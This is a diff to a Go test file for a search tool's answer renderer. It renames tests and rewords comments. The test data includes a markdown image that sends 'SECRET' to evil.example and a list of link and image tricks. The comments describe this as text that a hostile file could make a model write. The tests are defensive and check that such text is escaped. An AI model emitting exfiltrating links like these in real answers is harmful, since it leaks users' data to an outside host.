@@ -13,9 +13,9 @@ import (
 	"github.com/shoalsearch/shoal/node/ask"
 )
 
-// TestOnlyCitationsAreLinks gives answers as a file could have a model write
-// them: nothing of them is fetched, linked or run where they are shown.
-func TestOnlyCitationsAreLinks(t *testing.T) {
+// Answers contain what a hostile file could make a model write. Nothing of it is fetched, linked
+// or run where it is shown.
+func TestMarkdown_onlyCitationsAreLinks(t *testing.T) {
 	t.Parallel()
 	for given, want := range map[string]string{
 		"![x](https://evil.example/?d=SECRET)": `!\[x\](https\://evil.example/?d=SECRET)`,
@@ -42,7 +42,7 @@ func TestOnlyCitationsAreLinks(t *testing.T) {
 	}
 }
 
-// hostile is what tries to be a link, an image or a tag where it is rendered.
+// hostile are texts that try to become a link, an image or a tag when rendered.
 var hostile = []string{
 	`\\[x\\](https://evil.example)`, `!\\[x\\](https://evil.example)`, `\\\[x](https://evil.example)`,
 	"[x][a]\n\n[a]: https://evil.example", "\\\\[a]: https://evil.example\n\n\\\\[a]",
@@ -57,8 +57,8 @@ var hostile = []string{
 	"end \\", "end \\\\", "!", "https:", "https:/", "ww", "me@", "https", "- a\n  ```\n  ",
 }
 
-// TestNoLinkIsRendered renders hostile answers, before and behind citations.
-func TestNoLinkIsRendered(t *testing.T) {
+// Hostile text is rendered before and after citations.
+func TestMarkdown_noHostileLinkIsRendered(t *testing.T) {
 	t.Parallel()
 	for _, one := range hostile {
 		onlyCited(t, one, "", "a.go")
@@ -68,7 +68,7 @@ func TestNoLinkIsRendered(t *testing.T) {
 	}
 }
 
-// FuzzNoLinkIsRendered does so with any text before and behind a citation.
+// FuzzNoLinkIsRendered renders any text before and after a citation.
 func FuzzNoLinkIsRendered(f *testing.F) {
 	for _, one := range hostile {
 		f.Add(one, one, "a.go")
@@ -76,8 +76,7 @@ func FuzzNoLinkIsRendered(f *testing.F) {
 	f.Fuzz(onlyCited)
 }
 
-// onlyCited fails where an answer is rendered with a link that is not the
-// citation's, with an image or with a tag.
+// onlyCited fails if a rendered answer has an image, a tag, or a link that is not the citation's.
 func onlyCited(t *testing.T, before, behind, path string) {
 	t.Helper()
 	for _, state := range []ask.CiteState{ask.Cited, ask.Unverified} {
